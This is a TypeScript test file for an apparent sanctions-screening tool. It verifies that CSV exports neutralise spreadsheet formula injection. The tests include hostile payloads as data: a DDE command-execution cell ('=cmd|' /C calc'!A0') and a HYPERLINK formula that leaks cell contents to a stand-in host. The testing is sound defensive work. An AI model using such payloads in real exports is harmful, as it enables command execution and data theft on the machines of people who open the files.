// No CSV that sanctrace writes carries a formula: the entity export with the CSL's real alias
// "@MADEAMAZE_BOT", the screen-batch results and the audit CSV of a screening whose customer id
// is "=HYPERLINK(…)" and whose name is "=cmd|' /C calc'!A0". Each cell a spreadsheet would read
// as a formula starts with a ' instead, and the CSV still parses to the same columns.
import { before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { auditCsv } from '../../src/audit/export.js';
import { listAudit } from '../../src/audit/log.js';
import { screenAudited } from '../../src/audit/screening.js';
import { screenBatch } from '../../src/screen/batch.js';
import { Screener } from '../../src/screen/screen.js';
import { importList } from '../../src/sources/pipeline.js';
import { toCsvRow } from '../../src/store/export.js';
import { openStore } from '../../src/store/open.js';
import type { Store } from '../../src/store/types.js';
import { neutraliseCell } from '../../src/text/csv.js';
import { raw } from '../helpers/paths.js';

const HYPERLINK = '=HYPERLINK("http://x/?"&A1,"x")';
const CALC = "=cmd|' /C calc'!A0";
const dir = mkdtempSync(join(tmpdir(), 'sanctrace-csv-'));
const storePath = join(dir, 'store.sqlite');
let store: Store;

before(async () => {
  store = await openStore(storePath);
  await importList(store, { paths: [raw('us_csl/watchman_2022-05-06/consolidated.csv.gz')], publishedAt: '2022-05-06' });
});

const formula = (cell: string) => /^[=+\-@\t\r]/u.test(cell) && !/^[+-]?\d+(\.\d+)?$/u.test(cell);

test('cells that start a formula are neutralised; numbers and plain text are left alone', () => {
  assert.equal(neutraliseCell(HYPERLINK), `'${HYPERLINK}`);
  assert.equal(neutraliseCell('@MADEAMAZE_BOT'), "'@MADEAMAZE_BOT");
  assert.equal(neutraliseCell('\tx'), "'\tx");
  assert.equal(neutraliseCell('-0.2'), '-0.2');
  assert.equal(neutraliseCell('Minsk Wheel Tractor Plant'), 'Minsk Wheel Tractor Plant');
});

test("the entity CSV export writes the CSL's alias @MADEAMAZE_BOT as text", async () => {
  let row: string[] | null = null;
  for await (const entity of store.iterateEntities({})) {
    if (entity.statements.some((s) => s.value === '@MADEAMAZE_BOT')) row = (parse(toCsvRow(entity)) as string[][])[0];
  }
  assert.ok(row, 'the CSL lists @MADEAMAZE_BOT as an alias of BLENDER.IO');
  assert.match(row[3], /'@MADEAMAZE_BOT/u);
  assert.ok(!row.some(formula), row.join(' | '));
});

test('screen-batch results and the audit CSV carry no formula from a hostile customer file', async () => {
  const input = join(dir, 'customers.csv');
  writeFileSync(input, `customer_id,name\n"${HYPERLINK.replace(/"/gu, '""')}","${CALC}"\n@x,BLENDER.IO\n`);
  const output = join(dir, 'out.csv');
  await screenBatch({ input, output, store: storePath, workers: 1 });
  const rows = parse(readFileSync(output)) as string[][];
  assert.equal(rows.length, 3);
  for (const cells of rows) assert.ok(!cells.some(formula), cells.join(' | '));
  assert.equal(rows[1][0], `'${HYPERLINK}`, 'the customer id is kept, as text');

  const screener = await Screener.open(store);
  await screenAudited(store, screener, [{ key: HYPERLINK, customer: HYPERLINK, query: { schema: 'Person', names: [CALC] }, options: {} }], { actor: '@attacker', source: 'api', anchorFile: null });
  const records = await listAudit(store.sql, { kind: 'screening' });
  const audit = parse(auditCsv(records)) as string[][];
  assert.ok(audit.length >= 2);
  for (const cells of audit) assert.ok(!cells.some(formula), cells.join(' | '));
});
